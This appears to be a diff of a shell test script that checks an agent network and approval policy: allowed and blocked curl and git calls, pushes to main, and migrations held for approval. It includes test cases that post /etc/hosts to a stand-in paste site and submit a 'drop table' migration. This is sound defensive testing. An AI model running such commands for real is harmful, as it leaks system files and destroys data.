@@ -12,6 +12,7 @@ attempt() {
 }
 
 web='curl --silent --show-error --fail-with-body --max-time 10'
+held='curl --silent --show-error --fail-with-body --max-time 60'
 
 attempt 'curl GET an allowed path'                $web https://api.demo.example/echo
 attempt 'curl POST to the same path'              $web --data x https://api.demo.example/echo
@@ -19,6 +20,11 @@ attempt 'curl a path nobody allowed'              $web https://api.demo.example/
 attempt 'Python urllib GET an allowed path'       python3 -c 'import urllib.request as u; u.urlopen("https://api.demo.example/echo", timeout=10)'
 attempt 'git clone an allowed repository'         git clone --quiet https://git.demo.example/acme.git clone
 attempt 'git clone another repository'            git clone --quiet https://git.demo.example/other.git other
+git -C clone -c user.name=agent -c user.email=agent@demo.example commit --quiet --allow-empty --message change
+attempt 'git push to a feature branch'            git -C clone push --quiet origin HEAD:refs/heads/topic
+attempt 'git push to main (held, one approves)'   git -C clone push --quiet origin HEAD:refs/heads/main
+attempt 'a migration (held, two approve)'         $held --data 'alter table' https://db.demo.example/migrations/7
+attempt 'another migration (held, one rejects)'   $held --data 'drop table' https://db.demo.example/migrations/8
 attempt 'curl a spliced host'                     $web https://files.packages.demo.example/echo
 attempt 'curl a flagged host'                     $web https://telemetry.demo.example/echo
 attempt 'curl a paste site'                       $web --data @/etc/hosts https://x.paste.demo.example/
